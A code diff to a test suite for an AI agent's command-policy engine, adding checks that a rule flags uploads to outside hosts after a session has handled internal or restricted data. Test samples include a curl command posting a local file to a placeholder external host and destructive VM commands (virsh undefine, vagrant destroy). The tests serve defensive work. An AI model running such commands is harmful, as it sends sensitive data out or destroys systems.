@@ -4,6 +4,7 @@ import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import type { AgentId, Digest } from '../../../electron/core/brand.ts';
+import type { Level } from '../../../electron/core/context.ts';
 import type { Decision } from '../../../electron/core/decision.ts';
 import type { FactSet } from '../../../electron/core/facts.ts';
 import { compile } from '../../../electron/core/policy/compile.ts';
@@ -24,7 +25,7 @@ const compiled = compile(set.value);
 if (!compiled.ok) throw new Error(JSON.stringify(compiled.error));
 const policy = compiled.value;
 
-function factsOf(line: string, partsFollow: boolean): FactSet {
+function factsOf(line: string, partsFollow: boolean, classes: readonly Level[]): FactSet {
   const action = actionOf(line, { partsFollow });
   const zero = '0'.repeat(64) as Digest;
   return {
@@ -58,7 +59,7 @@ function factsOf(line: string, partsFollow: boolean): FactSet {
       counts: {},
       tools: [],
       entities: [],
-      classes: [],
+      classes,
       recent: [],
       recentTimes: [0],
     },
@@ -72,9 +73,10 @@ function factsOf(line: string, partsFollow: boolean): FactSet {
 function judge(
   line: string,
   partsFollow = false,
+  classes: readonly Level[] = [],
 ): { readonly decision: Decision; readonly rules: ReadonlySet<string> } {
   const rules = new Set<string>();
-  const decision = evaluateWith(policy, factsOf(line, partsFollow), {
+  const decision = evaluateWith(policy, factsOf(line, partsFollow, classes), {
     rule: (candidate, _subject, state) => {
       if (state !== 'not_matched') rules.add(candidate.rule.id);
     },
@@ -215,6 +217,27 @@ const rows: Readonly<Record<string, readonly [string, string]>> = {
   'containers.machine': ['virsh undefine x; vagrant destroy x', 'vagrant status'],
 };
 
+/** Rules about what the session did before: the line, and the same line in a session that did not. */
+const afterwards: Readonly<
+  Record<string, { readonly classes: readonly Level[]; readonly hit: string; readonly miss: string }>
+> = {
+  'network.upload-after-secret': {
+    classes: ['INTERNAL', 'RESTRICTED'],
+    hit: 'curl -d @notes.txt https://x.example',
+    miss: 'curl -d @notes.txt http://localhost:3000',
+  },
+};
+
+for (const [rule, { classes, hit, miss }] of Object.entries(afterwards)) {
+  test(`${rule} speaks about \`${hit}\` afterwards and not before`, () => {
+    assert.ok(judge(hit, false, classes).rules.has(rule));
+    assert.ok(!judge(hit).rules.has(rule));
+  });
+  test(`${rule} leaves \`${miss}\` alone`, () => {
+    assert.ok(!judge(miss, false, classes).rules.has(rule));
+  });
+}
+
 for (const [rule, [hit, miss]] of Object.entries(rows)) {
   test(`${rule} speaks about \`${hit}\``, () => {
     const { rules, decision } = judge(hit);
@@ -228,7 +251,7 @@ for (const [rule, [hit, miss]] of Object.entries(rows)) {
 
 test('every rule of every pack has its two lines', () => {
   const ids = files.flatMap((file) => file.rules.map((rule) => rule.id as string));
-  assert.deepEqual([...ids].sort(), Object.keys(rows).sort());
+  assert.deepEqual([...ids].sort(), [...Object.keys(rows), ...Object.keys(afterwards)].sort());
 });
 
 test('every rule says why and refers to something or offers something', () => {
